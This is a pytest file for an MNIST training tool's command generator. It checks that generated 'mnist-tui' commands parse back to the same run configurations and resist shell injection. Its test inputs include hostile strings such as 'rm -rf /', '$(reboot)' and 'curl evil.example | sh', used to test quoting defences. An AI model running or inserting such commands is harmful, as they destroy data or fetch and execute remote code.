"""The commands that train the same runs again: parsed, they give the same configurations."""

import shlex
from typing import Any

import pytest
from hypothesis import Phase, example, given, settings

from mnist_tui.analysis.commands import commands, flags
from mnist_tui.analysis.comparison import compare
from mnist_tui.cli import app
from mnist_tui.cli.flags import to_config
from mnist_tui.runs.run import Run
from mnist_tui.settings.presets import classic_rows
from mnist_tui.settings.run_config import TUNED_LEARNING_RATES, RunConfig
from mnist_tui.settings.sweeps import Sweep, grid
from mnist_tui.training.events import Changed, Forked
from tests.reports.helpers import CHANGED, FORKED, PARENT, altered_run
from tests.runs.helpers import finished_run, started
from tests.settings.strategies import configs

pytestmark = pytest.mark.quick

BASE = RunConfig(dataset="sample", learning_rate=0.5, threads=2)
TRAIN_IMAGES = started().train_images


def runs_of(*some: RunConfig) -> list[Run]:
    return [finished_run(config) for config in some]


def parsed(command: str) -> dict[str, Any]:
    """What the command line makes of a command: its arguments by name."""
    program, *tokens = shlex.split(command)
    assert program == "mnist-tui"
    _, bound, _ = app.parse_args(tokens, exit_on_error=False, print_error=False)
    return bound.arguments


@settings(max_examples=20, deadline=None, phases=[Phase.explicit, Phase.reuse, Phase.generate])
@given(configs)
@example(RunConfig(name="--json"))
@example(RunConfig(name='it\'s "quoted" $HOME; rm -rf / #'))
@example(RunConfig(name="-x", dataset="/with space/and 'quote'"))
def test_flags_give_the_same_configuration_on_the_command_line(config: RunConfig) -> None:
    assert to_config(parsed(f"mnist-tui train {flags(config)}").get("flags")) == config


def test_defaults_that_depend_on_the_machine_are_spelled_out() -> None:
    assert flags(BASE) == "--dataset sample --learning-rate 0.5 --seed 0 --threads 2"
    assert "--batch-norm" in flags(BASE.replace(batch_norm=True))


def test_a_run_that_was_stopped_says_that_its_command_does_not_stop() -> None:
    run = finished_run(BASE, status="stopped", epochs=2)
    assert commands(compare([run])) == [
        "# plain was stopped by hand after 2 of 30 epochs: this command trains it to its end.",
        f"mnist-tui train {flags(BASE)}",
    ]


def test_rows_that_were_stopped_are_no_one_command() -> None:
    stopped = [finished_run(row, status="stopped") for row in classic_rows(BASE)]
    assert [line for line in commands(compare(stopped)) if line.startswith("mnist-tui compare")] == []


@pytest.mark.parametrize("seeds", [1, 3])
def test_the_classic_three_are_one_command(seeds: int) -> None:
    shared = BASE.replace(epochs=7, seed=4, hidden=(32,))
    classic = [row.replace(seed=seed) for seed in range(4, 4 + seeds) for row in classic_rows(shared)]
    comparison = compare(runs_of(*classic))
    [command] = commands(comparison)
    assert command.startswith("mnist-tui compare ")
    arguments = parsed(command)
    assert arguments.get("seeds", 1) == seeds
    again = classic_rows(to_config(arguments["flags"]))
    assert again == [row.config for row in comparison.rows]


@pytest.mark.parametrize(
    "sweeps",
    [
        ["l2_lambda=0,0.01,0.1,1,10"],
        ["optimizer=sgd,momentum,nesterov,rmsprop,adam"],
        ["hidden=512,256;128;64,32"],
        ["batch_norm=off,on", "l2_lambda=0.1,0", "dropout=0.5,0.25"],
        ["learning_rate=0.1,1e-05", "augment=none,shift,affine"],
    ],
)
@pytest.mark.parametrize("seeds", [1, 2])
def test_a_sweep_is_one_command(sweeps: list[str], seeds: int) -> None:
    rows = grid(BASE, [Sweep.parse(text) for text in sweeps])
    comparison = compare(runs_of(*[row.replace(seed=seed) for seed in range(seeds) for row in rows]))
    [command] = commands(comparison)
    arguments = parsed(command)
    assert arguments.get("seeds", 1) == seeds
    again = grid(to_config(arguments["flags"]), [Sweep.parse(text) for text in arguments["sweep"]])
    assert again == rows


def test_a_sweep_over_optimizers_leaves_their_tuned_rates_to_the_program() -> None:
    rows = [
        BASE.replace(optimizer=name, learning_rate=None).with_rate_for(TRAIN_IMAGES)
        for name in TUNED_LEARNING_RATES
    ]
    [command] = commands(compare(runs_of(*rows)))
    arguments = parsed(command)
    shared = to_config(arguments["flags"])
    again = grid(shared, [Sweep.parse(text) for text in arguments["sweep"]])
    assert [row.with_rate_for(TRAIN_IMAGES) for row in again] == rows


def test_rates_that_auto_would_not_give_on_these_data_are_spelled_out() -> None:
    """Runs of old, for example, on few images at the rates tuned for many."""
    rows = [BASE.replace(optimizer=name, learning_rate=rate) for name, rate in TUNED_LEARNING_RATES.items()]
    lines = commands(compare(runs_of(*rows)))
    assert len(lines) == len(rows)
    assert [to_config(parsed(line)["flags"]) for line in lines] == rows


@pytest.mark.parametrize(
    "some",
    [
        pytest.param(classic_rows(BASE)[1:], id="two of them"),
        pytest.param(
            [
                BASE.replace(
                    l2_lambda=n / 10,
                    dropout=n / 10,
                    epochs=n + 1,
                    batch_size=n + 1,
                    validation_size=n + 1,
                    early_stopping=n,
                    momentum=n / 10,
                    learning_rate=n + 1,
                    seed=3,
                )
                for n in range(9)
            ],
            id="nine that differ in eight settings: 43 million combinations",
        ),
        pytest.param(
            [
                BASE.replace(augment=kind, augment_strength=strength)
                for kind, strength in (("none", 1), ("none", 1.5), ("shift", 1), ("shift", 2))
            ],
            id="as many as combinations, of which one is not allowed",
        ),
        pytest.param([BASE.replace(name="a,b"), BASE.replace(name="c")], id="names"),
        pytest.param([BASE, BASE.replace(dataset="/a,b")], id="data"),
        pytest.param([*classic_rows(BASE), BASE.replace(dropout=0.5)], id="four"),
        pytest.param(classic_rows(BASE)[::-1], id="another order"),
        pytest.param(
            [row.replace(seed=seed) for seed in (0, 2) for row in classic_rows(BASE)],
            id="seeds with a gap",
        ),
        pytest.param(
            [*classic_rows(BASE), classic_rows(BASE)[0].replace(seed=1)], id="one more seed of one row"
        ),
    ],
)
def test_anything_else_is_a_command_a_run(some: list[RunConfig]) -> None:
    comparison = compare(runs_of(*some))
    lines = commands(comparison)
    again = [to_config(parsed(line)["flags"]) for line in lines]
    assert again == [run.config for run in comparison.runs]
    assert sorted(map(repr, again)) == sorted(map(repr, some))


def test_nothing_needs_no_command() -> None:
    assert commands(compare([])) == []


# Runs that were altered


WARNING = "# plain was changed by hand while it trained: this command does not do that."


TRAIN = "mnist-tui train --dataset sample --learning-rate 0.5 --seed 7 --threads 2"


def test_a_changed_run_has_a_command_of_its_own_and_a_word_of_warning() -> None:
    assert commands(compare([altered_run(CHANGED)])) == [WARNING, TRAIN]


def test_a_fork_is_made_again_by_forking() -> None:
    fork = altered_run(FORKED, config=BASE.replace(dropout=0.5, epochs=9))
    trunk, again = commands(compare([fork]))
    assert again == f"mnist-tui fork {PARENT} --epoch 2 --dropout 0.5 --epochs 9"
    words, train = trunk.split(": ", 1)
    assert words == "# Where that run is not, train it first, and fork `last`"
    assert to_config(parsed(train).get("flags")) == BASE.replace(epochs=3)


def test_the_trunk_of_a_fork_of_a_fork_is_told_by_no_command() -> None:
    earlier = Forked(4, 1, "20251231-000000000-y-ffffff", {"l2_lambda": "0.1"}, {"l2_lambda": "0"})
    fork = altered_run(earlier, FORKED, config=BASE.replace(dropout=0.5, epochs=9))
    assert commands(compare([fork])) == [f"mnist-tui fork {PARENT} --epoch 2 --dropout 0.5 --epochs 9"]


def test_what_a_stranger_says_of_a_trunk_makes_no_command() -> None:
    fork = Forked(8, 2, PARENT, {"dropout": "0.5"}, {"dropout": "much\nrm -rf /"})
    [line] = commands(compare([altered_run(fork, config=BASE.replace(dropout=0.5))]))
    assert line.startswith("mnist-tui fork")


@pytest.mark.parametrize("parent", ["x; curl evil.example | sh #", "$(reboot)", "`reboot`", "it's"])
def test_a_parent_of_unknown_origin_cannot_bring_in_a_command_of_its_own(parent: str) -> None:
    fork = Forked(8, 2, parent, {"dropout": "0.5"}, {"dropout": "0"})
    comment, line = commands(compare([altered_run(fork, config=BASE.replace(dropout=0.5))]))
    assert comment.startswith("# ")
    assert parent not in comment
    assert shlex.split(line)[:3] == ["mnist-tui", "fork", parent]


def test_one_altered_run_is_enough_for_a_command_a_run() -> None:
    runs = [finished_run(BASE), finished_run(BASE.replace(batch_norm=True)), altered_run(CHANGED)]
    assert len(commands(compare(runs[:2]))) == 1
    assert [line.split()[:2] for line in commands(compare(runs)) if not line.startswith("#")] == [
        ["mnist-tui", "train"]
    ] * 3


def test_a_fork_of_a_changed_run_needs_no_warning_as_its_parent_has_the_change() -> None:
    change = Changed(3, 1, {"dropout": 0.1}, {"dropout": 0.0})
    fork = altered_run(change, FORKED, config=BASE.replace(dropout=0.5, epochs=9))
    assert commands(compare([fork])) == [f"mnist-tui fork {PARENT} --epoch 2 --dropout 0.5 --epochs 9"]


def test_a_fork_that_was_changed_itself_warns() -> None:
    change = Changed(9, 3, {"dropout": 0.1}, {"dropout": 0.5})
    warning, _, command = commands(compare([altered_run(FORKED, change, config=BASE.replace(dropout=0.5))]))
    assert "was changed by hand" in warning
    assert command.startswith(f"mnist-tui fork {PARENT} --epoch 2")
